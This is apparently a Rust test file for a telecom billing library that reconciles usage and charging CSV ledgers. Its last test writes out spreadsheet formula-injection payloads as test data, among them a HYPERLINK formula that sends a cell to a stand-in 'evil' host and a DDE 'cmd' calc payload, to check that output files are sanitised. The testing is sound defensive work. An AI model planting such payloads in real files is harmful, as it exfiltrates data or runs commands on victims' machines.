//! Ledgers as charging systems and spreadsheets write them.

#![allow(clippy::unwrap_used, reason = "a test")]

use std::path::Path;

use billing::csv::{ChargingReader, ChargingWriter, Mappings};
use billing::{
    Account, ChargingId, ChargingRecord, Closing, Currency, Difference, Money, Octets, ReconcileError, Rules,
    Settings, Tariff, reconcile_files_to,
};

/// One session of subscriber 001010000000001, 21:30:00 to 21:31:00 UTC on 24 November 2026, 1,000 octets up and 2,560 down.
const USAGE: &str = "charging_id,supi,session,serving,dnn,sequence,opened_us,from_us,to_us,uplink,downlink,downlink_lost,closing\n\
    26,001010000000001,1,001/01,internet,0,1795555800000000,1795555800000000,1795555860000000,1000,2560,0,released\n";

fn try_reconcile(
    map: &str,
    charging: &[u8],
    rules: &Rules,
) -> Result<(Account, Vec<Difference>), ReconcileError> {
    let out = tempfile::tempdir().unwrap();
    let write = |name: &str, octets: &[u8]| {
        let path = out.path().join(name);
        std::fs::write(&path, octets).unwrap();
        path
    };
    let (usage, charging) = (write("usage.csv", USAGE.as_bytes()), write("charging.csv", charging));
    let mappings = Mappings::from_yaml(map, "map.yaml").unwrap_or_else(|error| panic!("{error}"));
    let (tariff, mut found) = (Tariff::default(), Vec::new());
    let settings = Settings::new(Some(&tariff), rules);
    let account = reconcile_files_to(&usage, &charging, &mappings, settings, out.path(), &mut |one| {
        found.push(one.clone());
    })?;
    Ok((account, found))
}

fn matched(map: &str, charging: &[u8]) {
    let (account, found) = try_reconcile(map, charging, &Rules::default()).unwrap();
    let text = String::from_utf8_lossy(charging);
    assert_eq!((account.matched, account.unreconciled), (1, 0), "{text}\n{:?}\n{found:#?}", account.problems);
}

/// A mapping and a line of it, in which each column can be written in another way.
fn written(column: &str, details: &str, text: &str) {
    let columns = [
        ("charging_id", "{column: ID}", "26"),
        ("supi", "{column: IMSI}", "001010000000001"),
        ("serving", "{column: PLMN}", "001/01"),
        ("dnn", "{column: APN}", "internet"),
        ("from_us", "{column: Start, time: s}", "1795555800"),
        ("to_us", "{column: End, time: s}", "1795555860"),
        ("uplink", "{column: Up}", "1000"),
        ("downlink", "{column: Down}", "2560"),
        ("amount", "{column: Amount}", "0.001"),
    ];
    let mut map = String::from("charging:\n  delimiter: ';'\n  columns:\n");
    let (mut header, mut line) = (Vec::new(), Vec::new());
    for (name, form, usual) in columns {
        let theirs = form.trim_matches(['{', '}']).split([',', ' ']).nth(1).unwrap();
        let (form, text) = if name == column {
            (format!("{{column: {theirs}{details}}}"), text)
        } else {
            (form.to_owned(), usual)
        };
        map.push_str(&format!("    {name}: {form}\n"));
        header.push(theirs);
        line.push(text);
    }
    map.push_str("  constants: {session: '1', currency: EUR}\n");
    matched(&map, format!("{}\n{}\n", header.join(";"), line.join(";")).as_bytes());
}

#[test]
fn every_field_is_read_in_the_forms_of_charging_systems() {
    for (column, details, text) in [
        ("supi", "", "imsi-001010000000001"),
        ("supi", "", "0001010000000001@nai.epc.mnc001.mcc001.3gppnetwork.org"),
        ("supi", "", "=\"001010000000001\""),
        ("supi", "", "'001010000000001"),
        ("serving", "", "00101"),
        ("serving", "", "001-01"),
        ("serving", "", "1f100"),
        ("serving", "", "00f110"),
        ("serving", "", "00F110"),
        ("dnn", "", "internet.mnc001.mcc001.gprs"),
        ("dnn", "", "Internet.MNC001.MCC001.GPRS"),
        ("from_us", ", time: rfc3339", "2026-11-24T21:30:00+0000"),
        ("from_us", ", time: rfc3339, zone: Europe/Berlin", "2026-11-24 22:30:00"),
        ("from_us", ", time: compact, zone: UTC", "20261124213000"),
        ("from_us", ", time: compact", "20261124223000+0100"),
        ("from_us", ", time: '%d.%m.%Y %H:%M:%S', zone: Europe/Berlin", "24.11.2026 22:30:00"),
        ("to_us", ", time: '%Y-%m-%d %I:%M:%S %p', zone: America/New_York", "2026-11-24 04:31:00 PM"),
        ("charging_id", "", "1b4e28ba-2fa1-11d2-883f-0016d3cca427"),
        ("charging_id", "", "00ff00ff00ff00ff"),
        ("charging_id", "", "0x0000001A"),
        ("charging_id", ", radix: 16", "0000001a"),
        ("charging_id", "", "\"chf1.example.org;1795555800;17\""),
        ("uplink", ", unit: 1kB, decimal: ','", "1,0"),
        ("uplink", ", thousands: ','", "1,000"),
        ("uplink", ", decimal: ','", "1.000"),
        ("uplink", "", "1 000"),
        ("downlink", ", unit: 1KiB", "2.5"),
        ("downlink", ", unit: 1KiB, rounding: up", "2.4999"),
        ("amount", ", decimal: ','", "0,001"),
        ("amount", ", unit: '0.01', decimal: ','", "0,1"),
        ("amount", "", "0.0010000004"),
    ] {
        written(column, details, text);
    }
}

const MAP: &str = "charging:\n  delimiter: ';'\n  columns: {supi: IMSI, from_us: {column: Start, time: s}, to_us: {column: End, time: s},\n\
                   \x20   uplink: Up, downlink: Down, serving: PLMN, dnn: APN}\n  constants: {session: '1'}\n";
const HEADER: &str = "IMSI;PLMN;APN;Start;End;Up;Down";
const LINE: &str = "001010000000001;00101;internet;1795555800;1795555860;1000;2560";

#[test]
fn a_line_end_inside_quotes_a_byte_order_mark_and_returns_are_no_matter() {
    matched(MAP, format!("\u{feff}{HEADER}\r\n{LINE}\r\n").as_bytes());
    matched(MAP, format!("{HEADER};Note\n{LINE};\"two\nlines, and \"\"quotes\"\"\"\n").as_bytes());
    matched(MAP, format!("Note;{HEADER}\r\n\"a\r\n\r\nb\";{LINE}\r\n").as_bytes());
    matched(MAP, format!("\"Note\non it\";{HEADER}\n;{LINE}\n").as_bytes());
    // The empty rows of a spreadsheet.
    matched(MAP, format!("{HEADER}\n{LINE}\n;;;;;;\n;;;;;;\n").as_bytes());
}

#[test]
fn columns_that_the_mapping_does_not_use_may_have_any_name() {
    matched(MAP, format!(";;Note;Note;{HEADER};\n1;2;3;4;{LINE};5\n").as_bytes());
    let twice = format!("{HEADER};Up\n{LINE};1\n");
    let error = try_reconcile(MAP, twice.as_bytes(), &Rules::default()).unwrap_err().to_string();
    assert!(error.contains("2 columns are named \"Up\""), "{error}");
}

#[test]
fn text_in_other_encodings_is_read_and_named() {
    let with_note = format!("{HEADER};Gebühr\n{LINE};größer als €\n");
    let windows: Vec<u8> =
        with_note.chars().map(|letter| if letter == '€' { 0x80 } else { letter as u8 }).collect();
    let encoded =
        |encoding: &str| MAP.replace("  delimiter", &format!("  encoding: {encoding}\n  delimiter"));
    matched(&encoded("windows-1252"), &windows);
    // Nobody uses that column.
    matched(MAP, &windows);
    let used = MAP.replace("supi: IMSI", "rate: Gebühr, supi: IMSI");
    let error = try_reconcile(&used, &windows, &Rules::default()).unwrap_err().to_string();
    assert!(error.contains("\"Gebühr\"") && error.contains("encoding: windows-1252"), "{error}");
    let mut utf_16 = vec![0xff, 0xfe];
    utf_16.extend(with_note.encode_utf16().flat_map(u16::to_le_bytes));
    matched(&encoded("utf-16"), &utf_16);
    let error = try_reconcile(MAP, &utf_16, &Rules::default()).unwrap_err().to_string();
    assert!(error.contains("encoding: utf-16"), "{error}");
}

/// 02:30 is there twice when summer time ends: what would end before it began ended the second time.
#[test]
fn a_session_over_the_end_of_summer_time_lasts_as_long_as_it_did() {
    let map = "charging:\n  zone: Europe/Berlin\n  columns: {supi: I, from_us: {column: S, time: rfc3339}, to_us: {column: E, time: rfc3339}}\n\
               \x20 constants: {session: '1', serving: 001/01, dnn: internet, uplink: '0', downlink: '0'}\n";
    let (account, found) = try_reconcile(
        map,
        b"I,S,E\n001010000000009,2026-10-25 02:50:00,2026-10-25 02:10:00\n",
        &Rules::default(),
    )
    .unwrap();
    assert_eq!((account.charging_records, account.rejected_charging), (1, 0), "{found:?}");
}

#[test]
fn sums_of_money_do_not_stop_at_the_largest_amount_in_silence() {
    let map = MAP.replace("  constants: {", "  constants: {amount: '9223372036854', ");
    let lines: String =
        (1..4).map(|n| format!("{}\n", LINE.replace("000001;", &format!("00000{n};")))).collect();
    let error = try_reconcile(&map, format!("{HEADER}\n{lines}").as_bytes(), &Rules::default()).unwrap_err();
    assert!(error.to_string().contains("more than 9223372036854.775807"), "{error}");
}

fn record(rate: &str) -> ChargingRecord {
    ChargingRecord {
        charging_id: Some(ChargingId(26)),
        supi: "001010000000001".parse().unwrap(),
        session: identity::SessionId::new(1).unwrap(),
        serving: "001/01".parse().unwrap(),
        dnn: "internet".parse().unwrap(),
        sequence: 0,
        opened_us: 1_795_555_800_000_000,
        from_us: 1_795_555_800_000_000,
        to_us: 1_795_555_860_000_000,
        recorded_us: 1_795_555_860_000_000,
        uplink: Octets(1_000),
        downlink: Octets(2_560),
        uplink_lost: 0,
        rate: rate.to_owned(),
        amount: Money::from_micros(-2_500),
        currency: Currency::EUR,
        closing: Closing::Released,
    }
}

#[test]
fn formulas_and_control_characters_leave_no_ledger_and_are_read_back() {
    let out = tempfile::tempdir().unwrap();
    let path = out.path().join("charging.csv");
    let rates = [
        "=HYPERLINK('http://evil/'&A1)",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\u{1b}]0;owned\u{7}",
        "-1+2",
        "a\\b\n",
        "'=1",
    ];
    let mut writer = ChargingWriter::create(&path).unwrap();
    rates.iter().for_each(|rate| writer.write(&record(rate)).unwrap());
    writer.flush().unwrap();
    drop(writer);
    assert_clean(&path);
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains(",-0.002500,"), "numbers stay numbers: {text}");
    let read: Vec<String> = ChargingReader::open(&path).unwrap().map(|record| record.unwrap().rate).collect();
    assert_eq!(read, rates);
    // A foreign ledger's text comes out as clean: here its rates, and a line that cannot be read.
    let map = MAP
        .replace("supi: IMSI", "rate: Rate, supi: IMSI")
        .replace("session: '1'", "session: '1', amount: '0.5'");
    let usage = out.path().join("usage.csv");
    std::fs::write(&usage, USAGE).unwrap();
    let evil = format!("{HEADER};Rate\n{LINE};\"=HYPERLINK(1)\"\n=cmd|\u{1b}[31m;;;;;;;\n");
    std::fs::write(out.path().join("theirs.csv"), evil).unwrap();
    let (mappings, tariff, rules) =
        (Mappings::from_yaml(&map, "map.yaml").unwrap(), Tariff::default(), Rules::default());
    let settings = Settings::new(Some(&tariff), &rules);
    reconcile_files_to(&usage, &out.path().join("theirs.csv"), &mappings, settings, out.path(), &mut |_| {})
        .unwrap();
    assert_clean(&out.path().join("unreconciled.csv"));
    assert_clean(&out.path().join("charging.rejected.csv"));
    let unreconciled = std::fs::read_to_string(out.path().join("unreconciled.csv")).unwrap();
    assert!(
        unreconciled.starts_with("cause,supi,session,charging_id,explanation,at_stake,"),
        "{unreconciled}"
    );
    assert!(
        unreconciled.contains("2026-11-24T21:30:00.000000Z") && unreconciled.contains("1795555800000000")
    );
}

/// No cell begins like a formula, but for negative numbers, and no control character but line ends is in the file.
fn assert_clean(path: &Path) {
    let text = std::fs::read_to_string(path).unwrap();
    assert!(!text.contains(|letter: char| letter.is_control() && letter != '\n'), "{text:?}");
    let mut reader = csv::ReaderBuilder::new().flexible(true).from_path(path).unwrap();
    for line in reader.records() {
        for cell in &line.unwrap() {
            let number = cell.parse::<f64>().is_ok();
            assert!(number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
        }
    }
}
